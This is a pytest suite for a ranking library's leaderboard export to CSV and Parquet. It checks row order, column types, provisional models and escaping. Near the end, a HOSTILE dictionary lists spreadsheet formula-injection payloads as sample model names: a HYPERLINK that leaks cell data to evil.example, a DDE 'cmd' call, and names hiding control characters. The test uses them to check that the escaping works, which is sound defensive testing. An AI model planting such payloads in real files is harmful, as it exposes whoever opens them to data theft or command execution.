"""Leaderboards as CSV and Parquet (:mod:`ranking.io.exports`)."""

from __future__ import annotations

import csv
import io
import json

import numpy as np
import pandas as pd
import pyarrow.parquet as pq
import pytest

from ranking.io.exports import leaderboard_bytes, leaderboard_frame
from ranking.leaderboard import fit_leaderboard
from ranking.types import PairwiseData


@pytest.fixture
def votes() -> PairwiseData:
    """Three well-voted models and ``"007"`` (an id that must stay text) with six votes."""
    pairs = [(0, 1), (1, 2), (0, 2)] * 12 + [(2, 3), (0, 3), (1, 3)] * 2
    outcomes = [1.0, 1.0, 0.5] * 12 + [0.0, 1.0, 0.0] * 2
    return PairwiseData(
        ("a", "b", "c", "007"), np.array(pairs), np.array(outcomes), np.ones(len(outcomes))
    )


def test_frame_holds_every_row_and_its_odds(votes: PairwiseData) -> None:
    document = fit_leaderboard(votes, interval="bootstrap", rounds=20, rng=0).to_dict()
    frame = leaderboard_frame(document)
    assert frame["model"].tolist() == [row["model"] for row in document["models"]]
    assert frame.columns[:9].tolist() == [
        *("model", "rating", "lower", "upper", "rank", "battles", "wins", "losses", "ties")
    ]
    assert frame["p_best"].sum() == pytest.approx(1.0, abs=1e-3)
    assert str(frame["rank"].dtype) == "Int64"
    assert "provisional" not in frame.columns


def test_csv_round_trips_the_rows_and_keeps_ids_as_text(votes: PairwiseData) -> None:
    document = fit_leaderboard(votes, interval="none").to_dict()
    text = leaderboard_bytes(document, "csv").decode("utf-8")
    back = pd.read_csv(io.StringIO(text), dtype={"model": str})
    assert "007" in back["model"].tolist()
    assert "p_best" not in back.columns  # no interval, no odds
    for row, (_, got) in zip(document["models"], back.iterrows(), strict=True):
        assert got["rating"] == pytest.approx(row["rating"])
        assert got["battles"] == row["battles"]


def test_provisional_models_follow_the_ranked_with_no_rating(votes: PairwiseData) -> None:
    board = fit_leaderboard(votes, min_votes=10)
    document = board.to_dict()
    assert document["provisional"]  # the fixture's few-vote models
    frame = leaderboard_frame(document)
    n_ranked = len(document["models"])
    assert frame["provisional"].tolist() == [False] * n_ranked + [True] * (len(frame) - n_ranked)
    tail = frame.iloc[n_ranked:]
    assert tail["rating"].isna().all() and tail["rank"].isna().all()
    assert tail["battles"].tolist() == [m["battles"] for m in document["provisional"]]


def test_parquet_keeps_types_and_the_document_fields(votes: PairwiseData) -> None:
    document = fit_leaderboard(votes, method="elo", rounds=20, rng=0).to_dict()
    table = pq.read_table(io.BytesIO(leaderboard_bytes(document, "parquet")))
    assert table.column("model").to_pylist() == [m["model"] for m in document["models"]]
    assert str(table.schema.field("battles").type) == "int64"
    meta = json.loads(table.schema.metadata[b"leaderboard"])
    assert meta == {
        "method": "elo",
        "interval": "bootstrap",
        "confidence": 0.95,
        "n_battles": document["n_battles"],
    }


def test_unknown_format_is_refused(votes: PairwiseData) -> None:
    with pytest.raises(ValueError, match="'xlsx'"):
        leaderboard_bytes(fit_leaderboard(votes).to_dict(), "xlsx")  # type: ignore[arg-type]


#: Model names a spreadsheet would run as formulas, or that hide control characters
#: (issue 31), and the cells the CSV must hold for them.
HOSTILE = {
    '=HYPERLINK("http://evil.example/?"&A1,"click me")': (
        '\'=HYPERLINK("http://evil.example/?"&A1,"click me")'
    ),
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "@SUM(1)": "'@SUM(1)",
    "-2+3": "'-2+3",
    "\t=1+1": "'=1+1",  # the tab is removed, and what follows still escaped
    "\r=1+1": "'=1+1",
    "  =1+1": "'  =1+1",
    "\x00=cmd": "'=cmd",
    "nul\x00model": "nulmodel",
    "bell\x07and\x1bescape\x7f\x85": "bellandescape",
    "line\nbreak": "linebreak",
    "\uff1dSUM(1)": "'\uff1dSUM(1)",
    "gpt-4o": "gpt-4o",
    "007": "007",
}


def _hostile_board() -> dict[str, object]:
    counts = {"battles": 10, "wins": 4, "losses": 5, "ties": 1}
    rows = [
        {"model": name, "rating": -10.0 - i, "lower": -20.5 - i, "upper": -0.25, "rank": i + 1}
        | counts
        for i, name in enumerate(HOSTILE)
    ]
    provisional = [{"model": "=1+2", "battles": 2, "wins": 1, "losses": 1, "ties": 0}]
    return {"method": "bt", "models": rows, "min_votes": 5, "provisional": provisional}


def test_csv_text_cells_cannot_run_as_formulas() -> None:
    text = leaderboard_bytes(_hostile_board(), "csv").decode("utf-8")
    assert "\x00" not in text
    header, *rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == len(HOSTILE) + 1  # no row split by a line break in a name
    cells = [row[header.index("model")] for row in rows]
    assert cells == [*HOSTILE.values(), "'=1+2"]
    for row in rows:  # only text cells are escaped: no cell but the model's starts with '
        assert not any(cell.startswith("'") for cell in row[1:]), row


def test_csv_negative_numbers_stay_numbers() -> None:
    back = pd.read_csv(io.BytesIO(leaderboard_bytes(_hostile_board(), "csv")))
    assert back["rating"].dtype == np.float64
    assert back["rating"].tolist()[:3] == [-10.0, -11.0, -12.0]
    assert back["lower"].iloc[0] == -20.5 and back["upper"].iloc[0] == -0.25


def test_parquet_keeps_the_names_exactly() -> None:
    table = pq.read_table(io.BytesIO(leaderboard_bytes(_hostile_board(), "parquet")))
    assert table.column("model").to_pylist() == [*HOSTILE, "=1+2"]
